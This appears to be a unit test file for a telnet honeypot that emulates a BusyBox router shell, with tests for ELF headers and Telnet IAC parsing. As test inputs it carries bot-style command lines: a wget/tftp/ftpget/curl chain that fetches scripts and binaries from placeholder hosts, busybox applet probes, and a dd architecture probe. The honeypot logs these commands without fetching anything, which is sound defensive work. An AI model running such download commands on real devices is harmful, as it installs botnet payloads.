/**
 * The fake shell, the ELF headers and the IAC parser, as units: escapes, chains, downloads, the
 * header of every architecture, negotiation split across chunk boundaries, and random input.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { architectures } from "../../src/honeypot/persona.js";
import { elfHeader } from "../../src/honeypot/emulators/telnet/elf.js";
import { IacParser } from "../../src/honeypot/emulators/telnet/iac.js";
import { telnetPersona } from "../../src/honeypot/emulators/telnet/persona.js";
import { downloadUrl, echo, Shell } from "../../src/honeypot/emulators/telnet/shell.js";
import { loadPersona } from "../../src/honeypot/index.js";

const persona = loadPersona("tplink-wr740n-mips");
const shell = () => new Shell(persona, telnetPersona(persona));
const out = (line: string, s = shell()) => s.run(line).output.toString("latin1");

describe("telnet shell", () => {
  it("echo -ne writes the bytes its escapes name, like BusyBox echo", () => {
    expect(echo(["-ne", "\\x41\\x4b\\x34\\x37"])).toEqual(Buffer.from("AK47"));
    expect(echo(["-e", "a\\tb\\0101\\101\\\\"])).toEqual(Buffer.from("a\tbAA\\\n"));
    expect(echo(["-ne", "\\x7f\\xff\\x00x\\cignored"])).toEqual(Buffer.from([0x7f, 0xff, 0x00, 0x78]));
    expect(echo(["-n", "\\x41"])).toEqual(Buffer.from("\\x41"));
    expect(out("echo hello   world")).toBe("hello world\n");
  });

  it("answers the vendor-CLI escapes and applet probes bots send", () => {
    for (const c of ["enable", "system", "shell", "sh", "linuxshell"]) expect(shell().run(c)).toEqual({ output: Buffer.alloc(0), events: [], exit: false });
    expect(out("/bin/busybox ECCHI")).toBe("ECCHI: applet not found\n");
    expect(out("busybox MASUTA; busybox echo ok")).toBe("MASUTA: applet not found\nok\n");
  });

  it("follows ; && || and records unknown commands", () => {
    const r = shell().run("nosuch && echo no || echo yes; echo end");
    expect(r.output.toString()).toBe("sh: nosuch: not found\nyes\nend\n");
    expect(r.events).toEqual([{ eventid: "telnet.command.unknown", input: "nosuch" }]);
    expect(out("true && echo a && false || echo b")).toBe("a\nb\n");
  });

  it("records every download tool's URL and fetches nothing", () => {
    const r = shell().run("cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; tftp -g -r mips 192.0.2.2; ftpget -v -u anonymous -p x 192.0.2.3 m.sh m.sh; curl -O 192.0.2.4:81/c.sh");
    expect(r.events).toEqual([
      { eventid: "telnet.session.file_download", input: "wget http://192.0.2.1/x.sh", url: "http://192.0.2.1/x.sh", tool: "wget" },
      { eventid: "telnet.session.file_download", input: "tftp -g -r mips 192.0.2.2", url: "tftp://192.0.2.2/mips", tool: "tftp" },
      { eventid: "telnet.session.file_download", input: "ftpget -v -u anonymous -p x 192.0.2.3 m.sh m.sh", url: "ftp://anonymous:x@192.0.2.3/m.sh", tool: "ftpget" },
      { eventid: "telnet.session.file_download", input: "curl -O 192.0.2.4:81/c.sh", url: "http://192.0.2.4:81/c.sh", tool: "curl" },
    ]);
    expect(r.output.toString()).toContain("wget: can't connect to remote host (192.0.2.1): Connection timed out");
    expect(downloadUrl("tftp", ["-g", "-l", "/tmp/x", "192.0.2.9", "6969"])).toEqual({ url: "tftp://192.0.2.9:6969/tmp/x", host: "192.0.2.9", port: 6969 });
    expect(downloadUrl("wget", ["-q"])).toBeUndefined();
  });

  it("dd bs=52 count=1 if=/bin/echo gives the persona's 52-byte ELF header (big-endian MIPS)", () => {
    const r = shell().run("dd bs=52 count=1 if=/bin/echo 2>/dev/null");
    expect(r.output.length).toBe(52);
    expect(r.output.subarray(0, 4).toString("latin1")).toBe("\x7fELF");
    expect(r.output[4]).toBe(1);
    expect(r.output[5]).toBe(2); // ELFDATA2MSB
    expect(r.output.readUInt16BE(18)).toBe(8); // EM_MIPS
    expect(out("dd if=/bin/echo bs=52 count=1 of=/dev/null")).toBe("1+0 records in\n1+0 records out\n");
  });

  it("cats the persona's files, lists, changes directory, greps literally, keeps a bounded file system", () => {
    const s = shell();
    expect(out("cat /proc/cpuinfo", s)).toContain("MIPS 24Kc");
    expect(out("cat /proc/cpuinfo | grep -i 'system type'", s)).toBe("system type\t\t: Atheros AR9330 rev 1\n");
    expect(out("uname -a", s)).toBe("Linux TL-WR740N 2.6.31 #1 Tue May 20 10:02:45 CST 2014 mips GNU/Linux\n");
    expect(out("cd /nonexistent", s)).toBe("sh: cd: can't cd to /nonexistent: No such file or directory\n");
    expect(out("cd /var/tmp; pwd; echo x > a; ls", s)).toBe("/var/tmp\na\n");
    expect(out("cat nofile", s)).toBe("cat: can't open 'nofile': No such file or directory\n");
    expect(out("cat /proc/mounts", s)).toContain("/dev/root / squashfs");
    expect(out("ps", s)).toContain("/usr/bin/httpd");
    // 100 writes of 4 KiB: the virtual disk stops at its cap instead of growing.
    for (let i = 0; i < 100; i++) s.run(`echo ${"A".repeat(4096)} > /tmp/f${i}`);
    expect(out("ls /tmp", s).split("  ").length).toBeLessThanOrEqual(64);
  });

  it("never throws and bounds its output on random command lines", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (line) => {
        const r = shell().run(line);
        expect(r.output.length).toBeLessThanOrEqual(64 * 1024);
      }),
      { numRuns: 500 },
    );
  });
});

describe("ELF headers", () => {
  const machines: Record<string, number> = { arm: 40, armhf: 40, aarch64: 183, mips: 8, mipsel: 8, x86: 3, x86_64: 62, powerpc: 20, sh4: 42, sparc: 2, m68k: 4, arc: 93 };
  it.each(architectures.map((a) => [a]))("%s: class, endianness and e_machine per the ELF spec, no byte a tty or Telnet would alter", (arch) => {
    for (const endian of ["little", "big"] as const) {
      const h = elfHeader(arch, endian);
      const is64 = arch === "aarch64" || arch === "x86_64";
      expect(h.length).toBe(is64 ? 64 : 52);
      expect(h[4]).toBe(is64 ? 2 : 1);
      expect(h[5]).toBe(endian === "little" ? 1 : 2);
      expect(endian === "little" ? h.readUInt16LE(18) : h.readUInt16BE(18)).toBe(machines[arch]);
      expect(endian === "little" ? h.readUInt16LE(is64 ? 52 : 40) : h.readUInt16BE(is64 ? 52 : 40)).toBe(h.length); // e_ehsize
      expect(h.includes(0x0a) || h.includes(0xff)).toBe(false);
    }
  });
});

describe("IAC parser", () => {
  function parse(chunks: Buffer[]) {
    const got: unknown[] = [];
    let data = Buffer.alloc(0);
    const p = new IacParser({
      data: (b) => (data = Buffer.concat([data, b])),
      negotiate: (verb, option) => got.push(["neg", verb, option]),
      subnegotiation: (option, d) => got.push(["sb", option, [...d]]),
    });
    for (const c of chunks) p.push(c);
    return { got, data };
  }
  const stream = Buffer.from([0x61, 255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240, 0x62, 255, 255, 0x63, 255, 250, 31, 1, 255, 255, 2, 3, 255, 240]);
  const expected = {
    got: [["neg", 251, 31], ["sb", 31, [0, 80, 0, 24]], ["sb", 31, [1, 255, 2, 3]]],
    data: Buffer.from([0x61, 0x62, 0xff, 0x63]),
  };

  it("separates data, negotiation and subnegotiation, IAC IAC folded", () => {
    expect(parse([stream])).toEqual(expected);
  });

  it("gives the same result whatever the chunk boundaries", () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: stream.length - 1 }), { maxLength: 8 }), (cuts) => {
        const at = [...new Set(cuts)].sort((a, b) => a - b);
        const chunks = [0, ...at].map((s, i) => stream.subarray(s, at[i] ?? stream.length));
        expect(parse(chunks)).toEqual(expected);
      }),
    );
  });

  it("keeps a subnegotiation bounded when it never ends", () => {
    const r = parse([Buffer.from([255, 250, 24]), Buffer.alloc(1 << 20, 0x41)]);
    expect(r.got).toEqual([]);
    expect(r.data.length).toBe(0);
  });
});
